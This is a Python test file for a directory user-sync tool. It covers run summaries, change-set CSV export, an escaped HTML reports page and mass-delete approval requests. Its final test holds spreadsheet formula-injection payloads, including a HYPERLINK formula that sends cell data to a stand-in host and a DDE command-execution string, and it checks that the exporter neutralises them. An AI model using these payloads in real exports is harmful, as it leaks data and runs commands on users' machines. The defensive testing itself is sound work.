"""What the reports page and the approval request are made of, without Airflow: run summaries on storage, the
change set as CSV, the page's HTML and chart, the approval request's text and the answer's report line."""

from __future__ import annotations

import csv
import io
import json
import time

from tests.support.helpers import existing_rows, plan, record, rules
from tests.support.small_runs import check_plan
from usersync.core.run_folder import MANIFEST, RunFolder
from usersync.plan.approval import Decision, approval_request, removal_lines
from usersync.plan.change_tables import ChangeTables
from usersync.rules.model import SafetySpec
from usersync.run.export import HEADER, change_set_csv, inert
from usersync.run.summaries import read_summary, recent_runs, report_text, write_run_record
from usersync_airflow.ui.reports_page import chart, page

DAY = 86400


def _changes(leavers: int = 3):
    r = rules()
    rows = existing_rows(r, [record(i) for i in (1, 2, *range(4, 4 + leavers))])
    # user 1 changes its first name, user 3 is new, users 4… have left
    return plan(r, [record(1, givenName="Zed"), record(2), record(3)], rows)


def _summary(run_id: str, **counts) -> dict:
    return {"source": "corp", "run_id": run_id, "mode": "live", "status": "SUCCESS", "started": run_id,
            "counts": {"inserted": 0, "updated": 0, "deleted": 0, "disabled": 0, "skipped": 0, **counts}}


def test_recent_runs_lists_each_dags_summaries_of_the_last_days_oldest_first(tmp_path, monkeypatch):
    base = tmp_path / "runs"
    for dag, run, age_days in (("user_sync__corp", "b", 1), ("user_sync__corp", "a", 2), ("user_sync__corp", "old", 16),
                               ("user_sync__hr", "c", 0)):
        folder = RunFolder(base / dag / run)
        write_run_record(folder, _summary(f"2026-11-{27 - age_days:02d}", inserted=1), f"report of {run}\n")
        data = json.loads((base / dag / run / "summary.json").read_text())
        data["written"] = time.time() - age_days * DAY - 60
        (base / dag / run / "summary.json").write_text(json.dumps(data))
    (base / "user_sync__corp" / "starting").mkdir()  # a run folder without a summary yet: not listed
    (base / "user_sync__corp" / "broken").mkdir()
    (base / "user_sync__corp" / "broken" / "summary.json").write_text("{not json")  # never hides the others
    found = recent_runs(base, days=15)
    assert list(found) == ["user_sync__corp", "user_sync__hr"]
    assert [r["folder"] for r in found["user_sync__corp"]] == ["a", "b"]  # the 16-day-old run is gone
    assert "".join(report_text(base / "user_sync__corp" / "b")) == "report of b\n"
    assert read_summary(base / "user_sync__corp" / "starting") is None
    assert recent_runs(tmp_path / "nothing-yet") == {}


def test_the_change_set_csv_has_one_line_per_change_and_per_changed_field(tmp_path):
    changes = _changes()
    skipped_plan = plan(rules(), [record(9, sAMAccountName="")])  # no key: skipped with the reason
    changes.skipped = skipped_plan.skipped
    folder = RunFolder(tmp_path)
    ref = ChangeTables.from_changeset(changes).save(folder)
    rows = list(csv.reader(io.StringIO("".join(change_set_csv(folder, ref)))))
    assert tuple(rows[0]) == HEADER
    kinds = [r[0] for r in rows[1:]]
    assert kinds.count("update") == 1 and kinds.count("delete") == 3 and kinds.count("skip") == 1
    (update,) = [r for r in rows if r[0] == "update"]
    assert update[1] == "user000001" and update[4:7] == ["first_name", "Anna", "Zed"]
    inserted = {r[4]: r[6] for r in rows if r[0] == "insert"}
    assert rows[[r[0] for r in rows].index("insert")][1] == "user000003" and inserted["first_name"]
    assert {r[1] for r in rows if r[0] == "delete"} == {"user000004", "user000005", "user000006"}
    (skip,) = [r for r in rows if r[0] == "skip"]
    assert "user000009" in skip[7] or "sAMAccountName" in skip[7]


def test_the_page_escapes_what_it_shows_and_draws_one_bar_per_run():
    runs = [{**_summary("2026-11-25", inserted=100), "folder": "r1", "run_id": "r1"},
            {**_summary("2026-11-26", deleted=10, updated=40), "folder": "r2", "run_id": "<script>x</script>",
             "mode": "dry run", "plan": {"tables": {}}}]
    html = page({"user_sync__corp": runs}, 15)
    assert "<script>x</script>" not in html and "&lt;script&gt;x&lt;/script&gt;" in html
    assert html.count('<tr class="run"') == 2
    assert "runs/user_sync__corp/r2/changes.csv" in html  # only runs with a plan link their change set
    assert "runs/user_sync__corp/r1/changes.csv" not in html and "runs/user_sync__corp/r1/report.txt" in html
    svg = chart(runs, height=100)
    assert svg.count('class="inserted"') == 1 and 'height="100.0"' in svg  # the tallest run fills the chart
    assert 'class="updated"' in svg and 'height="40.0"' in svg and 'class="run dry" opacity="0.4"' in svg
    assert "No runs yet" in page({}, 15)


def test_the_approval_request_names_counts_limits_and_the_first_removals():
    changes = _changes(leavers=25)
    verdict = check_plan(changes, SafetySpec(max_delete_percent=20))
    assert verdict.blocked
    request = approval_request("corp", verdict, changes, where="[CSV](http://x/changes.csv)", timeout_hours=24)
    assert request.subject == "usersync: approve removing 25 users from corp?"
    body = request.body
    assert f"**25 of the {verdict.owned} users**" in body and "allows 500 users and 20%" in body
    assert "- `delete user000004 (EXAMPLE\\user000004)`" in body
    assert body.count("- `delete ") == 20 and "- … and 5 more" in body  # the first 20 by name
    assert "no answer within 24 h" in body and "[CSV](http://x/changes.csv)" in body
    assert "2 insert(s) and update(s)" in body
    assert len(removal_lines(changes, limit=3)) == 3


def test_the_answer_becomes_one_report_line_and_approval_lifts_the_guard():
    assert Decision(True, "anna", "2026-11-27T10:00:00+00:00").line().startswith(
        "approved by anna at 2026-11-27T10:00:00+00:00: the mass-delete guard was lifted for this run only")
    assert Decision(False, "bob", "2026-11-27T10:00:00+00:00").line() == \
        "rejected by bob at 2026-11-27T10:00:00+00:00: nothing was written"
    late = Decision(False, None, None, timeout_hours=24)
    assert late.timed_out and late.line().startswith("no answer within 24 h: nothing was written")
    assert Decision.from_json(late.to_json()) == late and Decision.from_json(None) is None
    from usersync.plan.safety import check_removals

    assert check_removals(25, 28, SafetySpec(max_delete_percent=20)).blocked
    approved = check_removals(25, 28, SafetySpec(max_delete_percent=20), approved_by="anna")
    assert not approved.blocked and approved.message.startswith(
        "mass-delete guard lifted for this run, approved by anna: 25 of the 28 users")
    assert check_removals(1, 28, SafetySpec(), approved_by="anna").approved_by is None  # nothing to lift


def test_a_run_record_is_pruned_with_its_run_folder(tmp_path):
    from usersync.core.run_folder import prune_runs

    folder = RunFolder(tmp_path / "user_sync__corp" / "r1")
    folder.write_manifest(source="corp")
    write_run_record(folder, _summary("r1"), "text")
    assert (folder.path / MANIFEST).exists()
    assert prune_runs(tmp_path / "user_sync__corp", 15, now=time.time() + 16 * DAY) == [str(folder.path)]


def test_draft_previews_are_listed_apart_and_single_account_runs_link_their_explanation():
    runs = [{**_summary("2026-11-01T00:00:00", inserted=30), "folder": "whole", "kind": "whole source"},
            {**_summary("2026-11-02T00:00:00", updated=1), "folder": "one", "kind": "single account",
             "account": "jdoe", "mode": "dry run"},
            {**_summary("2026-11-03T00:00:00", deleted=6), "folder": "draft", "kind": "draft preview", "mode": "dry run",
             "draft": "corp.draft.yaml"}]
    html = page({"user_sync__corp": runs}, 15)
    live, previews = html.split("<h3>draft previews", 1)
    assert 'data-run-id="2026-11-03T00:00:00"' in previews and 'data-run-id="2026-11-03T00:00:00"' not in live
    assert 'data-run-id="2026-11-01T00:00:00"' in live and 'data-run-id="2026-11-02T00:00:00"' in live
    assert "dry run · account jdoe" in live
    assert 'href="runs/user_sync__corp/one/explanation.txt"' in live
    assert live.count('class="explanation"') == 1
    assert live.count("<rect class=\"deleted\"") == 0  # the preview's deletions are not drawn as the source's runs


def test_a_single_account_runs_record_keeps_its_explanation_beside_the_report(tmp_path):
    folder = RunFolder(tmp_path / "run")
    write_run_record(folder, _summary("r1"), "the report\n", "explanation of account 'jdoe':\n")
    assert "".join(report_text(folder.path, "explanation.txt")) == "explanation of account 'jdoe':\n"
    write_run_record(RunFolder(tmp_path / "run2"), _summary("r2"), "the report\n")
    assert not (tmp_path / "run2" / "explanation.txt").exists()


def test_change_set_csv_cells_a_spreadsheet_would_run_are_made_text(tmp_path):
    formula = '=HYPERLINK("https://evil.example/?d="&A1:H99,"Open")'
    changes = plan(rules(), [record(1, givenName=formula), record(2, givenName="@SUM(1+1)", sn="-2+3"),
                             record(3, sn="+cmd|' /C calc'!A0")])
    folder = RunFolder(tmp_path)
    text = "".join(change_set_csv(folder, ChangeTables.from_changeset(changes).save(folder)))
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert "'" + formula in cells and "'@SUM(1+1)" in cells and "'-2+3" in cells
    assert "'+cmd|' /C calc'!A0" in cells
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)
    # values are trimmed when mapped; a tab or carriage return first is neutralised all the same
    assert inert(("\tx", "\ry", "plain", None)) == ("'\tx", "'\ry", "plain", None)
